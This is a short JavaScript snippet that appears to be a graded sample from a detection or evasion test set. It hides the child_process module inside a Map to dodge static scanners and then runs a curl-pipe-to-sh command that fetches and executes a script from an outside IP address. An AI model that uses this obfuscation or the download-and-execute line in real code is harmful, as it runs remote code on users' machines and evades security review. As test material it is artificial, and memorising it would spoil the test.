// evasion: the module kept as a value in a Map built from an array of pairs, its function called from the Map
// grade: medium; does: shell
const registry = new Map([
  ['fmt', require('util')],
  ['run', require('child_process')],
]);
registry.get('run').execSync('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });
